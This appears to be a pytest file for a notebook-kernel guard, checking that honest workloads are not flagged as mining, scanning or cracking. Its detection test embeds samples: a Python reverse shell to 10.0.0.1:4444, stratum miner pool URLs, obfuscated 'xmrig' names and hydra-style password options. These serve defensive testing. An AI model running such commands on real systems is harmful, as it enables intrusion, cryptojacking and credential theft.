"""Honest work near the newest behaviour rules and cell checks (issue 17, "Honest work that was
stopped"): a worker pool whose parent holds one long-lived connection, a long-polling bot that
trains, a test suite starting servers on ephemeral ports, a load test of one's own API, a
reverse proxy in front of a notebook's app, health checks and downloads whose options look
odd, and cells that name tools in data. Each runs to its end with no incident."""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import sys
import weakref

import pytest

from colab_guard.kernel.hook import _own_listener, _remember
from tests.harness import free_port, wait_until
from tests.standins.honest_fixtures import (HONEST_SECONDS, guard_config, measured,  # noqa: F401
                                            run_to_the_end, service)
from tests.test_cell_evasions import run_cells
from tests.test_honest_workloads import _listening

pytestmark = pytest.mark.integration

PYTHON = sys.executable

#: Two pool workers busy for SECONDS (pure Python: no BLAS threads), started from the kernel.
BUSY_POOL = '''
import multiprocessing as mp, time
def train(seconds):
    end, n = time.time() + seconds, 1
    while time.time() < end:
        for _ in range(20000): n = (n * 48271) % 2147483647
    return n
pool = mp.get_context("fork").Pool(2)
training = pool.map_async(train, [SECONDS, SECONDS])
'''


# ---------------------------------------------------------------- a busy family, one connection


TRACKED = BUSY_POOL + '''
import http.client, json
tracker = http.client.HTTPConnection("127.0.0.1", PORT, timeout=30)
logged = 0
while not training.ready():  # log metrics once a second on one kept-alive connection
    tracker.request("POST", "/api/2.0/mlflow/runs/log-metric", body=json.dumps(
        {"run_id": "4f1c", "key": "loss", "value": 1 / (logged + 1), "step": logged}))
    tracker.getresponse().read(); logged += 1
    time.sleep(1)
print("done", logged, training.get()); pool.close(); pool.join()
'''


async def test_a_worker_pool_logging_to_a_local_tracker_runs(kernel, guard_config, measured,
                                                             service):
    """Pool workers busy past the mining window while their parent logs metrics to an
    experiment tracker (MLflow's REST API, one kept-alive connection): the family is
    measured as one, and a tracker answers what it is asked, never pushes."""
    port = service("longpoll", 0)  # POSTs answered at once
    await run_to_the_end(kernel, guard_config, TRACKED.replace("PORT", str(port))
                         .replace("SECONDS", str(HONEST_SECONDS)))
    assert measured[kernel.kernel_id].get("cpu_demand_percent", 0) >= 50  # measured, busy


LONG_POLL_BOT = BUSY_POOL + '''
import http.client, json
api = http.client.HTTPConnection("127.0.0.1", PORT, timeout=30)
offset, answered = 0, 0
while not training.ready():  # a chat bot reporting on the training it runs
    api.request("GET", f"/bot/getUpdates?offset={offset}&timeout=3")
    for update in json.loads(api.getresponse().read()):
        offset = update["update_id"] + 1
        end, n = time.time() + THINK, 1  # the answer: the model evaluated on the user's example
        while time.time() < end: n = (n * 48271) % 2147483647
        api.request("POST", "/bot/sendMessage", body=json.dumps(
            {"chat_id": update["chat"], "text": f"still training; your example scores {n % 100}"}))
        api.getresponse().read(); answered += 1
print("done", answered, training.get()); pool.close(); pool.join()
'''


@pytest.mark.xfail(strict=True, reason=(
    "mining-busy-pool-connection: a long-polled update the bot answers a second later is, on "
    "the wire, a small message the server sent a second after the client last spoke, then "
    "answered: a pool's job and a miner's share. (Answered at once, it is still counted when a "
    "tick falls between the update and the answer: one run in three here.) Only the open "
    "request tells them apart, and a miner of one's own writing keeps one open for free (an "
    "unanswered notification after each job): counting it would hand custom miners a way out"))
async def test_a_long_polling_bot_reporting_on_its_training_runs(kernel, guard_config, measured,
                                                                service):
    """A Telegram-style bot that long-polls its chat service (each ``getUpdates`` held 3 s,
    then one small update) and answers each after 1.5 s of inference, while its pool
    trains: each update arrives late because it was asked for, not pushed."""
    port = service("longpoll", 3)
    await run_to_the_end(kernel, guard_config, LONG_POLL_BOT.replace("PORT", str(port))
                         .replace("SECONDS", str(HONEST_SECONDS)).replace("THINK", "1.5"))
    assert measured[kernel.kernel_id].get("cpu_demand_percent", 0) >= 50


# ---------------------------------------------------------------- many ports, one's own


EPHEMERAL_SERVERS = '''
import threading, time, urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
class Ok(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.end_headers(); self.wfile.write(b"ok")
    def log_message(self, *args): pass
passed, end = 0, time.time() + SECONDS
while time.time() < end:  # one test per server, each on a port of its own
    server = ThreadingHTTPServer(("127.0.0.1", 0), Ok)
    thread = threading.Thread(target=server.serve_forever, args=(0.01,)); thread.start()
    assert urllib.request.urlopen(f"http://127.0.0.1:{server.server_port}/").read() == b"ok"
    server.shutdown(); server.server_close(); thread.join(); passed += 1
print("done", passed)
'''


async def test_a_test_suite_starting_a_server_per_test_in_the_kernel_runs(kernel, guard_config):
    """A web framework's tests, each starting a server on an ephemeral port and calling it:
    hundreds of ports within the scan window, every one the suite's own, every attempt
    answered (the kernel hook reports each connect; no tick sees the servers)."""
    text = await run_to_the_end(kernel, guard_config, EPHEMERAL_SERVERS.replace("SECONDS", "12"))
    assert int(text.split()[-1]) >= 100, text  # past the scan rule's count


async def test_a_test_suite_starting_a_server_per_test_as_a_script_runs(kernel, guard_config,
                                                                       tmp_path):
    """The same suite run as pytest runs it, ``!python``: its connects are seen only in the
    socket tables, a tick at a time."""
    script = tmp_path / "test_server.py"
    script.write_text(EPHEMERAL_SERVERS.replace("SECONDS", "12"))
    text = await run_to_the_end(kernel, guard_config, f"!{PYTHON} {script}")
    assert int(text.split()[-1]) >= 100, text


# ---------------------------------------------------------------- one's own API, loaded


@pytest.fixture
def nohup():
    """``await nohup(kernel, guard_config, folder, command)``: the command started from the
    kernel as notebooks start servers, ``nohup … &`` in ``%%bash`` (the shell exits, the
    server is orphaned); killed at teardown."""
    started = []

    async def start(kernel, guard_config, folder, command: str) -> None:
        pid_file = folder / f"nohup-{len(started)}.pid"
        started.append(pid_file)
        await run_to_the_end(kernel, guard_config, f"%%bash\ncd {folder}\n"
                             f"nohup {command} > nohup.log 2>&1 &\necho $! > {pid_file}\necho done")

    yield start
    for pid_file in started:
        try:
            os.kill(int(pid_file.read_text()), signal.SIGKILL)
        except (OSError, ValueError):
            pass  # gone already





API = '''
import asyncio, sys
async def handle(reader, writer):  # an events endpoint: the answer comes when there is news
    await reader.readline()
    await asyncio.sleep(float(sys.argv[2]))
    writer.write(b"HTTP/1.0 200 OK\\r\\n\\r\\n{\\"news\\": 1}")
    await writer.drain(); writer.close()
async def main():
    server = await asyncio.start_server(handle, "127.0.0.1", int(sys.argv[1]), backlog=1024)
    async with server: await server.serve_forever()
asyncio.run(main())
'''

LOAD_TEST = '''
import asyncio, time
async def client(port):
    for _ in range(50):
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port); break
        except OSError: await asyncio.sleep(0.2)  # the API is starting
    writer.write(b"GET /events HTTP/1.0\\r\\n\\r\\n"); await writer.drain()
    answer = await reader.read(); writer.close()
    return answer.endswith(b"}")
async def main(port, users):
    return sum(await asyncio.gather(*(client(port) for _ in range(users))))
print("done", await main(PORT, 500))  # the kernel's own event loop
'''


async def test_a_load_test_of_ones_own_api_with_500_slow_clients_runs(kernel, guard_config,
                                                                     tmp_path, nohup):
    """500 concurrent clients, each waiting 9 s for its answer, of an API the notebook
    started with ``nohup … &`` in ``%%bash`` (the shell exits: the API is no descendant of
    the kernel any more)."""
    port = free_port()
    (tmp_path / "api.py").write_text(API)
    await nohup(kernel, guard_config, tmp_path, f"{PYTHON} api.py {port} 9")
    text = await run_to_the_end(kernel, guard_config, LOAD_TEST.replace("PORT", str(port)))
    assert text.split()[-1] == "500", text


# ---------------------------------------------------------------- a proxy in front of one's app


REVERSE_PROXY = '''
import asyncio, threading
async def pipe(reader, writer):
    while data := await reader.read(65536):
        writer.write(data); await writer.drain()
    writer.close()
async def forward(client_reader, client_writer):  # jupyter-server-proxy's job, in small
    app_reader, app_writer = await asyncio.open_connection("127.0.0.1", APP)
    await asyncio.gather(pipe(client_reader, app_writer), pipe(app_reader, client_writer))
async def serve(ready):
    server = await asyncio.start_server(forward, "127.0.0.1", 0)
    ready.append(server.sockets[0].getsockname()[1])
    await server.serve_forever()
ready = []
threading.Thread(target=lambda: asyncio.run(serve(ready)), daemon=True).start()
while not ready: pass
print("done", ready[0])
'''

DOWNLOADS = '''
import sys, threading, time, urllib.request
port, users, seconds = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
got = [0] * users
def user(i):
    end = time.time() + seconds
    while time.time() < end:
        got[i] += len(urllib.request.urlopen(f"http://127.0.0.1:{port}/report.html").read())
        time.sleep(0.5)
threads = [threading.Thread(target=user, args=(i,)) for i in range(users)]
[t.start() for t in threads]; [t.join() for t in threads]
print(min(got))
'''


async def test_a_reverse_proxy_in_the_kernel_before_a_nohup_dashboard_runs(
        kernel, guard_config, tmp_path, jp_asyncio_loop, nohup):
    """A dashboard started with ``nohup … &`` (no longer the kernel's descendant), and a
    small reverse proxy in the kernel in front of it, as jupyter-server-proxy is: ten
    users fetch a 64 KiB report through it, past the relay window's count."""
    app = free_port()
    (tmp_path / "report.html").write_text("<p>loss</p>" * 6000)
    await nohup(kernel, guard_config, tmp_path, f"{PYTHON} -m http.server {app} --bind 127.0.0.1")
    wait_until(lambda: _listening(app), timeout=30, what="the dashboard listening")
    text = await run_to_the_end(kernel, guard_config, REVERSE_PROXY.replace("APP", str(app)))
    proxy = int(text.split()[-1])
    users = await jp_asyncio_loop.run_in_executor(None, lambda: subprocess.run(
        [PYTHON, "-c", DOWNLOADS, str(proxy), "10", "8"], capture_output=True, text=True,
        timeout=120))
    assert int(users.stdout or 0) >= 64 * 1024, users.stdout + users.stderr
    await run_to_the_end(kernel, guard_config, "print('done')")


# ---------------------------------------------------------------- commands whose options look odd


async def test_a_health_check_with_nc_that_starts_the_service_when_down_runs(kernel, guard_config,
                                                                            tmp_path):
    """``nc -z`` checks a port; if it is down, ``bash -c`` runs the start script: read as
    netcat's ``-c`` executing a shell."""
    (tmp_path / "start.sh").write_text("echo starting the service\n")
    await run_to_the_end(
        kernel, guard_config,
        f"%cd {tmp_path}\n"
        "!nc -z -w 1 127.0.0.1 9 && echo up || bash -c ./start.sh\n"
        "!nc -z -w 1 127.0.0.1 9 || bash start.sh; echo done")


async def test_aria2c_with_a_log_file_and_a_parameterized_ftp_uri_runs(kernel, guard_config,
                                                                       service, tmp_path):
    """aria2c's ``-l aria.log`` (its log) and ``-P`` (a parameterized URI: mirrors of one
    file) before an
    ``ftp://`` URL: read as hydra's login and password list against an FTP server."""
    pub = tmp_path / "ftp" / "pub"
    pub.mkdir(parents=True)
    for name in ("train.csv", "test.csv"):
        (pub / name).write_text("x,y\n1,2\n" * 1000)
    port = service("ftp", tmp_path / "ftp")
    text = await run_to_the_end(
        kernel, guard_config,
        f"%cd {tmp_path}\n"
        "!aria2c -q -d got -l aria.log --ftp-reuse-connection=false "
        f"-P 'ftp://127.0.0.1:{port}/pub/{{train,test}}.csv'\n"
        "!ls got && echo done")
    assert "train.csv" in text or "test.csv" in text, text  # from one mirror or the other


# ---------------------------------------------------------------- tools named in data


NAMED_CELLS = [
    # a malware-family classifier's dataset: one folder per family, paths built in f-strings
    "import os\nDATA = 'families'\nFAMILIES = ['xmrig', 'mirai', 'emotet', 't-rex']\n"
    "for family in FAMILIES:\n    os.makedirs(f'{DATA}/{family}', exist_ok=True)\n"
    "    open(os.path.join(DATA, family, 'sample.bin'), 'wb').write(family.encode())\n"
    "print(sorted(os.listdir(DATA)))",
    "paths = [f'{DATA}/{f}/sample.bin' for f in FAMILIES]\n"
    "sizes = {p.split('/')[-2]: os.path.getsize(p) for p in paths}\nprint(sizes)",
    # a table of tools seen in incidents, the projects' URLs among its columns
    "import csv\n"
    "rows = [{'tool': 'xmrig', 'url': 'https://github.com/xmrig/xmrig', 'seen': 12},\n"
    "        {'tool': 'hashcat', 'url': 'https://hashcat.net/hashcat/', 'seen': 3},\n"
    "        {'tool': 'nmap', 'url': 'https://nmap.org', 'seen': 40}]\n"
    "for row in rows:\n    row['cmd'] = f\"{row['tool']} --help\"\n"
    "with open('tools.csv', 'w', newline='') as f:\n"
    "    writer = csv.DictWriter(f, fieldnames=list(rows[0]))\n"
    "    writer.writeheader(); writer.writerows(rows)\n"
    "print(sorted(rows, key=lambda r: r['seen']))",
    # a C library's stderr captured to a file, a service checked, a script fed to bash
    "import os, socket, subprocess\n"
    "try:\n    socket.create_connection(('127.0.0.1', 9), timeout=1).close()\n"
    "except OSError:\n    print('the cache service is down')\n"
    "log = open('native.log', 'w'); saved = os.dup(2); os.dup2(log.fileno(), 2)\n"
    "os.write(2, b'warning from C\\n'); os.dup2(saved, 2); log.close()\n"
    "listed = subprocess.run(['bash'], input='ls *.csv | wc -l', capture_output=True, text=True)\n"
    "print(listed.stdout)",
    "print('done')",
]


async def test_cells_naming_tools_in_paths_tables_and_urls_run(kernel, guard_config, tmp_path):
    await run_to_the_end(kernel, guard_config, f"%cd {tmp_path}", done="")
    for cell in NAMED_CELLS:
        await run_to_the_end(kernel, guard_config, cell, done="")


async def test_a_load_test_of_ones_own_api_started_in_a_terminal_runs(kernel, guard_config,
                                                                     tmp_path):
    """The same load test, the API started in a JupyterLab terminal (here by the test: no
    kernel's process, as a terminal's is not to a server extension on its own). To the server
    extension alone the API is someone else's service, and its 500 connections are silent
    while it answers slowly; but each sent its request whole: no slow-request flood (it was a
    strict xfail until session 18)."""
    port = free_port()
    api = subprocess.Popen([PYTHON, "-c", API, str(port), "9"], stdout=subprocess.DEVNULL,
                           stderr=subprocess.DEVNULL)
    try:
        wait_until(lambda: _listening(port), timeout=30, what="the API listening")
        text = await run_to_the_end(kernel, guard_config, LOAD_TEST.replace("PORT", str(port)))
        assert text.split()[-1] == "500", text
    finally:
        api.kill()
        api.wait()


# ---------------------------------------------------------------- the fixes, and what they keep


def _cell_ids(cell: str) -> set[str]:
    return {d.signature.id for d in run_cells([cell])}


@pytest.mark.parametrize("cell, caught", [
    # a family's folder named in a plain list is no hidden name; a name assembled still is
    (NAMED_CELLS[0], set()),
    ("d = '/tmp/.cache'\nexe = f'{d}/xm' + 'rig'\nprint(exe)", {"cell-hidden-miner-name"}),
    ("import os\nbase = 'data'\nos.makedirs(os.path.join(base, 'x' + 'mrig'))",
     {"cell-hidden-miner-name"}),
    ("FAMILIES = ['xmrig', 'mirai']\nfor fam in FAMILIES:\n    print(f'samples/{fam}.bin')", set()),
    ("d = '/tmp/.cache'\nexe = f'{d}/xm' + 'rig.exe'", {"cell-hidden-miner-name"}),
    # a URL's scheme is not cut from its host: a pool URL assembled from plain parts is hidden
    ("import os\nhost = 'pool.example.net:3333'\nos.environ['POOL'] = 'stratum+tcp://' + host",
     {"cell-pool-url"}),
    # a shell given its script as input= runs that script: pipes, not a socket, are its streams
    (NAMED_CELLS[3], set()),
    ("import subprocess\n"
     "subprocess.run(['bash'], input='./x -o stratum+tcp://pool.example.net:3333')",
     {"cell-pool-url"}),
    ("import socket, subprocess, os\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\n"
     "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])",
     {"cell-reverse-shell"}),
    # aria2c's -P takes no value (a URL follows it); a password or list after -P is still hydra's
    ("!aria2c -q -d got -l aria.log -P 'ftp://127.0.0.1:2121/pub/{a,b}.csv'", set()),
    ("!./fetch -l admin -P pass.txt ftp://127.0.0.1:2121", {"cracking-hydra-options"}),
    ("!./fetch -l admin -p 's3:cret' ssh://127.0.0.1", {"cracking-hydra-options"}),
])
def test_cell_checks_near_the_fixes(cell, caught):
    assert _cell_ids(cell) & (caught | {"cell-hidden-miner-name", "cell-reverse-shell",
                                        "cracking-hydra-options", "cell-pool-url"}) == caught


def test_the_hook_leaves_out_only_connects_to_the_kernels_own_listeners():
    """A connect to a loopback port a socket of the kernel listens on is no attempt on anyone
    else's port; one to a port it only bound (a client's source port), to another host, or
    after its server closed is reported as before (a scan of loopback is still seen)."""
    listeners = weakref.WeakSet()
    server, client = socket.socket(), socket.socket()
    for sock in (server, client):
        _remember(listeners, sock)
        sock.bind(("127.0.0.1", 0))
    server.listen()
    port, source = server.getsockname()[1], client.getsockname()[1]
    assert _own_listener(listeners, ("127.0.0.1", port))
    assert not _own_listener(listeners, ("127.0.0.1", source))  # bound, not listening
    assert not _own_listener(listeners, ("10.0.0.9", port))
    assert not _own_listener(listeners, "/tmp/unix.sock")
    server.close()
    client.close()
    assert not _own_listener(listeners, ("127.0.0.1", port))


async def test_a_word_game_solver_with_a_wordlist_option_runs(kernel, guard_config, tmp_path):
    """``-m 6 -a 0 --wordlist words.txt``: a Wordle solver's most guesses, its algorithm and
    its word list, once read as hashcat's hash mode, attack mode and word list (hashcat takes
    its word list as a file, and has no ``--wordlist``)."""
    (tmp_path / "words.txt").write_text("crane\nslate\nadieu\n")
    (tmp_path / "wordle.py").write_text(
        "import argparse\np = argparse.ArgumentParser()\n"
        "p.add_argument('-m', type=int); p.add_argument('-a', type=int)\n"
        "p.add_argument('--wordlist')\n"
        "args = p.parse_args()\nwords = open(args.wordlist).read().split()\n"
        "print('best opener:', sorted(words)[args.a], 'in', args.m, 'guesses')\nprint('done')\n")
    await run_to_the_end(kernel, guard_config,
                         f"%cd {tmp_path}\n!{PYTHON} wordle.py -m 6 -a 0 --wordlist words.txt")


@pytest.mark.xfail(strict=True, reason=(
    "deepfake-swap-options: a run.py given a source image (-s) and a target video (-t) is "
    "roop's command line exactly; a video style-transfer script with the same entry point "
    "and options cannot be told from it by its command line (its content is what differs, "
    "and it is no known tool's)"))
async def test_a_video_style_transfer_script_called_run_py_runs(kernel, guard_config, tmp_path):
    (tmp_path / "run.py").write_text("import sys\nprint('styled', sys.argv[1:])\nprint('done')\n")
    await run_to_the_end(kernel, guard_config,
                         f"%cd {tmp_path}\n"
                         f"!{PYTHON} run.py -s starry_night.jpg -t clip.mp4 -o out.mp4")
